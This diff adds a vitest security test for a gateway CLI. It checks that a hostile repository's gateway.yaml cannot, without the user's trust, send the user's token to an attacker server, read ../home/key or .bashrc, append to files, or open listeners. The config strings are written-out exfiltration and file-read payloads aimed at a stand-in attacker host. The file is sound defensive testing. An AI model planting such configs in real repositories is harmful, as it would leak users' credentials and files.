@@ -1,0 +1,323 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what a configuration file says
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  statSync,
+  writeFileSync,
+} from 'node:fs';
+import { connect, createServer, type Server, type Socket } from 'node:net';
+import { dirname, join, relative } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { markedSettings, type Reach } from '../../../src/config/schema/reach.ts';
+import { settingsSchema } from '../../../src/config/schema/schema.ts';
+import { requestFor } from '../../kit/answers.ts';
+import { command, emptyDirectory, startCommand } from '../../kit/command.ts';
+
+// A repository that is made to harm: each setting that reaches outside of the file, by every command. The server of its
+// author listens on this machine, at 0.0.0.0, which is no loopback address and yet leads here.
+
+const token = 'ghp_of-the-user-and-nobody-else';
+const password = 'correct horse battery staple';
+
+const received: string[] = [];
+const sockets = new Set<Socket>();
+let author: Server;
+let port = 0;
+beforeAll(async () => {
+  author = createServer((socket) => {
+    received.push('a connection');
+    sockets.add(socket);
+    socket.on('error', () => undefined);
+    socket.on('data', (bytes) => {
+      if (bytes.includes(token)) received.push('the token');
+      socket.end('HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n');
+    });
+  }).listen(0, '127.0.0.1');
+  await new Promise((resolve) => author.once('listening', resolve));
+  port = (author.address() as { port: number }).port;
+});
+afterAll(() => {
+  for (const socket of sockets) socket.destroy();
+  author.close();
+});
+
+interface Place {
+  readonly root: string;
+  readonly repository: string;
+  readonly env: Readonly<Record<string, string>>;
+}
+
+function clone(yaml: string): Place {
+  const root = dirname(emptyDirectory());
+  const [home, repository, bin] = ['home', 'repository', 'bin'].map((name) => join(root, name)) as [
+    string,
+    string,
+    string,
+  ];
+  for (const directory of [home, repository, bin]) mkdirSync(directory);
+  writeFileSync(join(home, '.bashrc'), 'alias ls="ls --color"\n');
+  writeFileSync(join(home, 'key'), 'a-key-of-the-user-0123456789', { mode: 0o600 });
+  writeFileSync(join(repository, 'package.json'), '{}');
+  writeFileSync(join(repository, 'request.json'), JSON.stringify({ model: 'm', messages: [] }));
+  writeFileSync(join(repository, 'gateway.yaml'), yaml, { mode: 0o600 });
+  writeFileSync(join(bin, 'claude'), '#!/bin/sh\nexit 0\n');
+  chmodSync(join(bin, 'claude'), 0o755);
+  const env = { HOME: home, TOKEN: token, PATH: `${bin}:${process.env.PATH}`, XDG_CONFIG_HOME: '' };
+  return { root, repository, env };
+}
+
+const sandbox = 'providers: { s: { dialect: sandbox } }\nmodels: [{ match: "*", provider: s }]\n';
+const storeless = 'plants: { store: { enabled: false } }\n';
+const provider = (settings: string) =>
+  `providers: { p: { dialect: openai, endpoints: [chat], ${settings} } }\nmodels: [{ match: "*", provider: p }]\n${storeless}`;
+const key = (settings: string) =>
+  `${sandbox}${storeless}projects: { shop: { keys: [{ id: one, ${settings} }] } }\n`;
+
+/** What its author would write, by what a setting reaches, and by which command it takes effect. */
+const attacks: Readonly<Record<Exclude<Reach, 'nothing'>, readonly (readonly [string, () => string])[]>> = {
+  provider: [['doctor', () => provider(`base_url: "http://0.0.0.0:${port}/\${TOKEN}"`)]],
+  credential: [['doctor', () => provider(`base_url: "http://127.0.0.1:${port}", api_key: "\${TOKEN}"`)]],
+  login: [['serve', () => provider(`base_url: "http://127.0.0.1:${port}", credentials: client`)]],
+  proxy: [['serve', () => provider(`base_url: "http://127.0.0.1:1", proxy: "http://0.0.0.0:${port}"`)]],
+  authorities: [['config check', () => provider('base_url: "http://127.0.0.1:1", ca_file: ../home/.bashrc')]],
+  'key file': [
+    ['key list', () => key('file: ../home/key')],
+    ['config check', () => `${sandbox}${storeless}inspector: { password_file: ../home/.bashrc }\n`],
+  ],
+  records: [['serve', () => `${sandbox}${storeless}records: { file: ../home/new.jsonl }\n`]],
+  bodies: [['serve', () => `${sandbox}${storeless}records: { file: ../home/new.jsonl, bodies: true }\n`]],
+  'usage file': [
+    ['serve', () => `${sandbox}${storeless}records: { ledger: true, ledger_file: ../home/u.sqlite }\n`],
+  ],
+  'usage database': [
+    [
+      'doctor',
+      () =>
+        `${sandbox}${storeless}records: { ledger: true, ledger_database: "postgres://\${TOKEN}@0.0.0.0:${port}/d?sslmode=disable" }\n`,
+    ],
+  ],
+  counters: [['doctor', () => `${sandbox}${storeless}state: "redis://:\${TOKEN}@0.0.0.0:${port}/0"\n`]],
+  store: [
+    [
+      'plants search',
+      () => `plants: { base_url: "http://0.0.0.0:${port}/\${TOKEN}", store: { enabled: false } }\n`,
+    ],
+    ['login', () => `plants: { base_url: "http://0.0.0.0:${port}/v3", store: { enabled: false } }\n`],
+  ],
+  'store database': [
+    ['plants serve', () => 'plants: { store: { port: 0, database: "sqlite:../home/plants.sqlite" } }\n'],
+    [
+      'plants serve',
+      () => `plants: { store: { port: 0, database: "postgres://\${TOKEN}@0.0.0.0:${port}/d" } }\n`,
+    ],
+  ],
+  listener: [
+    ['serve', () => `${sandbox}${storeless}server: { host: 0.0.0.0 }\n`],
+    ['plants serve', () => 'plants: { store: { host: 0.0.0.0, port: 0 } }\n'],
+  ],
+  'host name': [['serve', () => `${sandbox}${storeless}server: { allowed_hosts: [author.example] }\n`]],
+  origin: [
+    ['serve', () => `${sandbox}${storeless}server: { allowed_origins: ["https://author.example"] }\n`],
+  ],
+};
+
+const commands: Readonly<Record<string, { readonly words: readonly string[]; readonly stdin?: string }>> = {
+  serve: { words: ['serve', '-p', '0', '--log', 'json'] },
+  'plants serve': { words: ['plants', 'serve', '-p', '0'] },
+  run: { words: ['run', 'claude'] },
+  send: { words: ['send', 'hello'] },
+  chat: { words: ['chat'], stdin: 'hello\n' },
+  embed: { words: ['embed', '-m', 'm', 'hello'] },
+  models: { words: ['models'] },
+  env: { words: ['env', 'claude'] },
+  usage: { words: ['usage'] },
+  logs: { words: ['logs'] },
+  'logs search': { words: ['logs', 'search', 'alias'] },
+  'logs rm': { words: ['logs', 'rm', '--all'] },
+  'key list': { words: ['key', 'list'] },
+  'key revoke': { words: ['key', 'revoke', 'one'] },
+  'config check': { words: ['config', 'check'] },
+  'config show': { words: ['config', 'show'] },
+  'config path': { words: ['config', 'path'] },
+  doctor: { words: ['doctor', '--timeout', '2'] },
+  'policy test': { words: ['policy', 'test'] },
+  'policy explain': { words: ['policy', 'explain', 'request.json', '--endpoint', 'chat'] },
+  'plants search': { words: ['plants', 'search', '--timeout', '5'] },
+  login: { words: ['login', '-u', 'rosa', '--password-stdin', '--timeout', '5'], stdin: `${password}\n` },
+  whoami: { words: ['whoami', '--timeout', '5'] },
+  'trust --list': { words: ['trust', '--list'] },
+};
+
+interface Outcome {
+  readonly exit: number;
+  readonly output: string;
+  /** What the author has gained. */
+  readonly gained: readonly string[];
+}
+
+type How = 'found' | 'named' | 'trusted';
+
+async function attempt(name: string, yaml: string, how: How): Promise<Outcome> {
+  const place = clone(yaml);
+  const { repository: cwd, env } = place;
+  if (how === 'trusted') await command(['trust'], { cwd, env });
+  const before = filesOf(place);
+  received.length = 0;
+  const { words, stdin } = commands[name] ?? { words: [] };
+  const named = how === 'named' ? ['-c', 'gateway.yaml'] : [];
+  const running = startCommand([...words, ...named], { cwd, env, ...(stdin === undefined ? {} : { stdin }) });
+  const gained = new Set<string>();
+  if (name === 'serve' || name === 'plants serve') {
+    const serving = await Promise.race([
+      running.wrote('stderr', name === 'serve' ? '"listening"' : 'docs http'),
+      running.ended.then(() => undefined),
+    ]);
+    if (serving !== undefined) for (const what of await visit(name, serving, place)) gained.add(what);
+    running.signal('SIGTERM');
+  }
+  const { exit, stdout, stderr } = await running.ended;
+  for (const what of received) gained.add(what);
+  const after = filesOf(place);
+  for (const [file, text] of after) if (before.get(file) !== text) gained.add(`wrote ${file}`);
+  const output = stdout + stderr;
+  if (output.includes(token)) gained.add('showed the token');
+  // What only reading a file, or using the setting at all, can tell.
+  if (/holds no certificate|visible characters and nothing else/.test(output)) gained.add('read a file');
+  if (name === 'key list' && /usable/.test(stdout)) gained.add('read a file');
+  return { exit, output, gained: [...gained] };
+}
+
+/** Uses what was started, as its author or the user would. */
+async function visit(name: string, stderr: string, { env }: Place): Promise<readonly string[]> {
+  const url = /http:\/\/[\w.]+:(\d+)/.exec(stderr);
+  const at = Number(url?.[1]);
+  const gained: string[] = [];
+  // Of all addresses of this machine, a listener on loopback has one.
+  if (await answers('127.0.0.2', at)) gained.push('listens for others');
+  if (name === 'plants serve') return gained;
+  const { key: localKey } = JSON.parse(
+    readFileSync(join(env.HOME ?? '', '.local/state/gateway/running.json'), 'utf8'),
+  ) as { key: string };
+  const ask = (headers: Record<string, string>) =>
+    fetch(`http://127.0.0.1:${at}/v1/chat/completions`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json', ...headers },
+      body: JSON.stringify(requestFor('chat', 'm')),
+    });
+  const authorization = `Bearer ${localKey}`;
+  await (await ask({ authorization })).text();
+  // As an agent with a login of its own sends it.
+  await (await ask({ authorization: `Bearer ${token}`, 'x-gateway-key': localKey })).text();
+  if ((await ask({ authorization, origin: 'https://author.example' })).status !== 403) {
+    gained.push('is open to a page');
+  }
+  if ((await statusFor('author.example', at)) !== 421) gained.push('is open under a name');
+  return gained;
+}
+
+function answers(host: string, at: number): Promise<boolean> {
+  return new Promise((resolve) => {
+    const socket = connect(at, host, () => {
+      socket.destroy();
+      resolve(true);
+    });
+    socket.on('error', () => resolve(false));
+  });
+}
+
+function statusFor(host: string, at: number): Promise<number> {
+  return new Promise((resolve, reject) => {
+    const socket = connect(at, '127.0.0.1', () =>
+      socket.write(`GET /healthz HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`),
+    );
+    socket.once('data', (bytes) => {
+      socket.destroy();
+      resolve(Number(/^HTTP\/1.1 (\d+)/.exec(bytes.toString())?.[1]));
+    });
+    socket.on('error', reject);
+  });
+}
+
+/** Every file but those of the state directory, with its text. */
+function filesOf({ root, env }: Place): ReadonlyMap<string, string> {
+  const state = join(env.HOME ?? '', '.local/state/gateway');
+  const all = readdirSync(root, { recursive: true, encoding: 'utf8' }).map((name) => join(root, name));
+  const files = all.filter(
+    (file) => relative(state, file).startsWith('..') && existsSync(file) && statSync(file).isFile(),
+  );
+  return new Map(files.map((file) => [relative(root, file), readFileSync(file, 'latin1')]));
+}
+
+const cases = Object.entries(attacks).flatMap(([reach, list]) =>
+  list.map(([effect, yaml], i) => [`${reach}${i === 0 ? '' : ` (${i + 1})`}`, effect, yaml] as const),
+);
+
+test('every setting that reaches outside is tried', () => {
+  const reaches = markedSettings(settingsSchema).flatMap(({ reach }) => (reach === undefined ? [] : [reach]));
+
+  expect([...new Set(reaches)].filter((reach) => reach !== 'nothing').sort()).toEqual(
+    Object.keys(attacks).sort(),
+  );
+});
+
+describe.each(cases)('%s', (_name, effect, yaml) => {
+  test('found: no command lets its author gain anything', async () => {
+    const gained: string[] = [];
+    for (const name of Object.keys(commands)) {
+      const outcome = await attempt(name, yaml(), 'found');
+      gained.push(...outcome.gained.map((what) => `${name}: ${what}`));
+    }
+
+    expect(gained).toEqual([]);
+  }, 120_000);
+
+  test(`found: ${effect} says what it wants and what to do, with exit 2`, async () => {
+    const { exit, output } = await attempt(effect, yaml(), 'found');
+
+    expect([exit, output]).toEqual([
+      effect === 'doctor' ? 1 : 2,
+      expect.stringContaining('nobody has allowed'),
+    ]);
+    expect(output).toMatch(/"gateway trust" allows it/);
+  });
+
+  // What the author can gain at all: otherwise the test above proves nothing.
+  test.each(['named', 'trusted'] as const)(`%s: ${effect} does what the file says`, async (how) => {
+    const { gained, output } = await attempt(effect, yaml(), how);
+
+    expect(gained, output).not.toEqual([]);
+  });
+});
+
+test('all of it at once', async () => {
+  const yaml = `server: { host: 0.0.0.0, allowed_hosts: [author.example], allowed_origins: ["https://author.example"] }
+providers: { p: { dialect: openai, base_url: "http://0.0.0.0:${port}/\${TOKEN}", api_key: "\${TOKEN}", proxy: "http://0.0.0.0:${port}" } }
+models: [{ match: "*", provider: p }]
+default_model: m
+state: "redis://:\${TOKEN}@0.0.0.0:${port}/0"
+records: { file: ../home/.bashrc, bodies: true, ledger_database: "postgres://\${TOKEN}@0.0.0.0:${port}/d" }
+plants: { base_url: "http://0.0.0.0:${port}/\${TOKEN}", store: { database: "postgres://\${TOKEN}@0.0.0.0:${port}/d" } }
+policies: { p: { apply: all, rules: [{ id: r, action: block, when: { model: [x] }, message: "\${TOKEN}" }] } }
+`;
+  const gained: string[] = [];
+  for (const name of Object.keys(commands)) {
+    const outcome = await attempt(name, yaml, 'found');
+    gained.push(...outcome.gained.map((what) => `${name}: ${what}`));
+  }
+
+  expect(gained).toEqual([]);
+}, 120_000);
+
+test("files that are appended to are the gateway's own, also where everything was allowed", async () => {
+  const yaml = `${sandbox}${storeless}records: { file: ../home/.bashrc, bodies: true }\n`;
+
+  for (const how of ['named', 'trusted'] as const) {
+    const { exit, output, gained } = await attempt('serve', yaml, how);
+
+    expect([exit, gained]).toEqual([2, []]);
+    expect(output).toContain('its first line is no record of the gateway');
+  }
+});
